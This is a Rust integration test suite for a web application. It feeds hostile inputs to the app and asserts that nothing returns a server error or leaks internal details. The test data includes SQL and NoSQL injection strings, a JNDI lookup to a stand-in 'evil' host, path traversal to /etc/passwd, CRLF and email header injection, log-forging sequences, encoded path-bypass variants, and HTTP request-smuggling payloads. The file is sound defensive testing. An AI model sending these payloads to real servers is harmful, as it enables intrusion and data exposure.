//! What people and strangers may send: no input breaks anything, and nothing inside shows.

use http::Method;
use serde_json::json;
use sonicsaas::routes;

use super::{
    bench::{Bench, DANA, Refused, Runner, walk},
    raw,
};
use crate::{app::App, calls};

/// These cases.
pub(crate) const WALKS: &[Runner] = &[
    walk!("INP-001", anything_as_an_argument),
    walk!("INP-005", lines_in_what_is_logged),
    walk!("INP-007", paths_that_decode_to_others),
    walk!("INP-008", addresses_of_people),
    walk!("CSR-011", nothing_inside_shows),
    walk!("FLT-007", requests_that_mean_two_things),
    walk!("AUD-002", nothing_happens_without_its_event),
    walk!("DBF-014", both_databases_do_the_same),
];

const WORDS: [&str; 10] = [
    "sqlx",
    "sqlite",
    "postgres",
    "select ",
    "insert ",
    "/root/",
    ".rs:",
    "127.0.0.1",
    "error returned",
    "panicked",
];

fn is_clean(what: &str, body: &str) {
    let body = body.to_lowercase();
    for word in WORDS {
        assert!(!body.contains(word), "{what} shows {word}: {body}");
    }
}

async fn anything_as_an_argument(bench: &Bench) {
    let dana = bench.app.signed_in(DANA).await;
    let own = bench.app.url.clone();
    let nested = "[".repeat(10_000);
    let long = "x".repeat(50_000);
    for value in [
        "",
        &long,
        "\u{0}",
        "\u{fffd}",
        "\u{202e}x",
        "😀",
        "' OR 1=1--",
        "${jndi:ldap://evil}",
        "../../etc/passwd",
        "%00",
        "-1",
        "9223372036854775808",
        "NaN",
        "null",
        &nested,
        "{\"$ne\":1}",
        "<script>",
        "\r\nX: y",
    ] {
        let query = form_urlencoded::Serializer::new(String::new())
            .extend_pairs(
                [
                    "id", "email", "password", "next", "theme", "tenant", "error", "state", "code",
                ]
                .map(|name| (name, value)),
            )
            .finish();
        for path in
            calls::ALL
                .iter()
                .map(|call| call.path)
                .chain([routes::LOGIN, routes::SIGN_IN, routes::DASHBOARD])
        {
            let short = if query.len() > 30_000 {
                &query[..30_000]
            } else {
                &query
            };
            let reply = dana
                .send(Method::GET, &format!("{path}?{short}"), &[], None)
                .await;
            assert!(reply.status < 500, "{path} {}: {}", &short[..40], reply.status);
            is_clean(path, &reply.body);
        }
        for path in [routes::PREFERENCES, routes::LOGIN] {
            let headers = [
                ("content-type", "application/x-www-form-urlencoded"),
                ("origin", own.as_str()),
            ];
            let reply = bench
                .app
                .browser()
                .send(Method::POST, path, &headers, Some(query.clone()))
                .await;
            assert!(reply.status < 500, "{path}: {}", reply.status);
            is_clean(path, &reply.body);
        }
        for path in ["/invite/", "/recover/", "/dashboard/", "/"] {
            let value: String = form_urlencoded::byte_serialize(value.as_bytes()).collect();
            let value = if value.len() > 8_000 {
                &value[..8_000]
            } else {
                &value
            };
            let reply = dana.get(&format!("{path}{value}")).await;
            assert!(reply.status < 500, "{path}: {}", reply.status);
        }
    }
    assert_eq!(dana.call(routes::VIEWER).await.status, 200);
}

async fn lines_in_what_is_logged(bench: &Bench) {
    let pending = bench.pending(DANA).await;
    let evil = "x%0d%0alevel=ERROR%20forged%1b%5b31m%22%7d%7b";
    let target = format!(
        "{}?error={evil}&error_description={evil}&state={}",
        routes::CALLBACK,
        pending.parameter("state")
    );
    let event = bench
        .refused_at(
            &pending,
            &target,
            &Refused::because("provider_error", "op_error").early(),
        )
        .await;
    let text = event.details.to_string();
    assert!(
        !text.contains('\n') && !text.contains('\u{1b}') && !text.contains("level=ERROR"),
        "{text}"
    );
    let pending = bench.pending(DANA).await;
    bench.mutate(super::token_claims::claims(json!({
        "aud": "x", "name": "a\r\n{\"action\":\"sign_in\"}", "email": "a\u{1b}[31m@x.example",
    })));
    bench.refused(&pending, &Refused::by("aud_mismatch")).await;
    let headers = [("user-agent", "x[31m\"}{ level=ERROR")];
    bench
        .app
        .browser()
        .send(Method::GET, routes::LOGIN, &headers, None)
        .await;
}

async fn paths_that_decode_to_others(bench: &Bench) {
    let host = bench
        .app
        .url
        .strip_prefix("http://")
        .expect("an origin")
        .to_owned();
    for path in [
        "/%2564ashboard",
        "/dashboard%2f..%2flogin",
        "/%2e%2e/dashboard",
        "/login/..;/dashboard",
        "/dashboard;x=1",
        "/%c0%af/dashboard",
        "/%u002f",
        "/dashboard%00",
        "/%zz",
        "/dash%62oard%",
        "//dashboard",
        "/./dashboard",
        "/login/../dashboard",
        "/DASHBOARD",
        "/api/session/viewer/",
        "/api/session/%76iewer",
        "/api//session/viewer",
        "/api/session/viewer%00",
        "/api/session/viewer;x",
        "/api/session/../session/viewer",
        "\\dashboard",
        "/dashboard\\..\\login",
    ] {
        let request =
            format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nAccept: text/html\r\nConnection: close\r\n\r\n");
        let answer = raw::exchange(&bench.app.url, &request).await;
        let status = raw::status(&answer);
        assert!(matches!(status, 303 | 400 | 401 | 404), "{path}: {status}");
        assert!(
            !answer.contains("You are a") && !answer.contains("team_id"),
            "{path} shows what is inside"
        );
        is_clean(path, answer.split_once("\r\n\r\n").map_or("", |(_, body)| body));
    }
}

async fn addresses_of_people(bench: &Bench) {
    bench.positive().await;
    let taken = sonicsaas::domain::input::email;
    for email in [
        "plus+tag@x.example",
        "UPPER@X.example",
        "o'brien@x.example",
        "a.b.c@sub.x.example",
    ] {
        assert_eq!(taken(email), Some(email.to_lowercase()));
    }
    let long = format!("{}@x.example", "x".repeat(320));
    for email in [
        "a@@x.example",
        "a@x@y.example",
        "@x.example",
        "a@",
        "a",
        "",
        "a b@x.example",
        "a@x.example\r\nBcc: b@x.example",
        "a@x.example\0",
        &long,
        "a@",
        "a,b@x.example",
        "<a@x.example>",
    ] {
        let kept = taken(email);
        assert!(
            kept.as_deref()
                .is_none_or(|kept| !kept.contains(['\r', '\n', '\0', ' ', ','])),
            "{email:?}"
        );
        assert!(kept.is_none() || email.contains(['\r', '\0']), "{email:?}");
    }
}

/// A server whose database is gone says so, and no more.
async fn nothing_inside_shows(bench: &Bench) {
    let app = App::start().await;
    app.northwind().await;
    let dana = app.signed_in(DANA).await;
    let target = app.pick(&dana, DANA, routes::SIGN_IN).await;
    app.execute("alter table session rename to session_gone").await;
    for reply in [
        dana.get(routes::DASHBOARD).await,
        dana.call(routes::VIEWER).await,
        dana.get(&target).await,
        dana.post(routes::LOGOUT, &[]).await,
    ] {
        let turned_away = reply.status >= 500 || reply.location().starts_with(routes::LOGIN);
        assert!(turned_away, "{} {}", reply.status, reply.location());
        is_clean("a broken page", &reply.body);
        assert_eq!(reply.header("x-request-id").len(), 26, "it has its reference");
    }
    app.stop().await;
    bench.positive().await;
}

async fn requests_that_mean_two_things(bench: &Bench) {
    let host = bench
        .app
        .url
        .strip_prefix("http://")
        .expect("an origin")
        .to_owned();
    let head = format!(
        "POST /preferences HTTP/1.1\r\nHost: {host}\r\nOrigin: {}\r\n",
        bench.app.url
    );
    let smuggled = format!("GET /api/session/viewer HTTP/1.1\r\nHost: {host}\r\n\r\n");
    let chunks = "0\r\n\r\n";
    for (what, request) in [
        (
            "two lengths",
            format!("{head}Content-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef{smuggled}"),
        ),
        (
            "a signed length",
            format!("{head}Content-Length: +5\r\n\r\nabcde{smuggled}"),
        ),
        (
            "length and chunks",
            format!("{head}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n{chunks}{smuggled}"),
        ),
        (
            "another coding",
            format!("{head}Transfer-Encoding: xchunked\r\n\r\n{chunks}{smuggled}"),
        ),
        (
            "a coding twice",
            format!("{head}Transfer-Encoding: chunked, identity\r\n\r\n{chunks}{smuggled}"),
        ),
        (
            "a space in a name",
            format!("{head}Transfer-Encoding : chunked\r\n\r\n{chunks}{smuggled}"),
        ),
        ("a folded line", format!("{head}X: a\r\n b\r\n\r\n")),
        (
            "a bare line break in a name",
            format!("GET /login HTTP/1.1\r\nHost: {host}\r\nX\n: y\r\n\r\n"),
        ),
        (
            "many headers",
            format!(
                "GET /login HTTP/1.1\r\nHost: {host}\r\n{}\r\n",
                "X: y\r\n".repeat(10_000)
            ),
        ),
        (
            "a huge header",
            format!(
                "GET /login HTTP/1.1\r\nHost: {host}\r\nX: {}\r\n\r\n",
                "y".repeat(1_000_000)
            ),
        ),
        (
            "a huge address",
            format!("GET /{} HTTP/1.1\r\nHost: {host}\r\n\r\n", "y".repeat(200_000)),
        ),
        ("no HTTP", "hello\r\n\r\n".to_owned()),
        (
            "HTTP/2 without asking",
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned(),
        ),
    ] {
        let answer = raw::exchange(&bench.app.url, &request).await;
        let status = raw::status(&answer);
        // Refused, or closed after one answer: what follows is never read as a request of its own.
        assert!(
            matches!(status, 0 | 400 | 403 | 413 | 414 | 415 | 431 | 501),
            "{what}: {status}"
        );
        assert_eq!(
            answer.matches("HTTP/1.1 ").count(),
            usize::from(status != 0),
            "{what}: {answer}"
        );
    }
    bench.positive().await;
}

/// The log cannot be written: nobody signs in, and nothing is written.
async fn nothing_happens_without_its_event(bench: &Bench) {
    let app = App::start().await;
    app.northwind().await;
    app.signed_in(DANA).await;
    let watch = app.watch().await;
    app.execute("alter table audit_event rename to audit_event_gone")
        .await;
    let before = watch.rows().await;
    for person in [DANA, "adam@contoso.com"] {
        let browser = app.browser();
        let target = app.pick(&browser, person, routes::SIGN_IN).await;
        let reply = browser.get(&target).await;
        let turned_away = reply.status >= 500 || reply.location().starts_with(routes::LOGIN);
        assert!(turned_away, "{} {}", reply.status, reply.location());
        assert_eq!(browser.cookie("session"), None);
        is_clean("a broken return", &reply.body);
    }
    assert_eq!(watch.rows().await, before, "all or nothing");
    app.execute("alter table audit_event_gone rename to audit_event")
        .await;
    app.signed_in("adam@contoso.com").await;
    assert!(app.chains_are_whole().await);
    drop(watch);
    app.stop().await;
    bench.positive().await;
}

/// Every case runs on both; here the places where they differ by themselves.
async fn both_databases_do_the_same(bench: &Bench) {
    for (number, name, stored) in [
        (6001, "a\u{0}b", "ab"),
        (6002, "STRASSE", "STRASSE"),
        (6003, "straße", "straße"),
        (6004, "%_' \" \\", "%_' \" \\"),
        (6005, "e\u{301}", "é"),
    ] {
        let viewer = super::peer_people::newcomer(bench, number, json!({ "name": name })).await;
        let shown = viewer["name"].as_str().expect("a name");
        assert!(shown == stored || shown == name, "{shown:?}");
    }
}

#[tokio::test]
async fn inputs() {
    Bench::start().await.run(Vec::new(), WALKS).await;
}
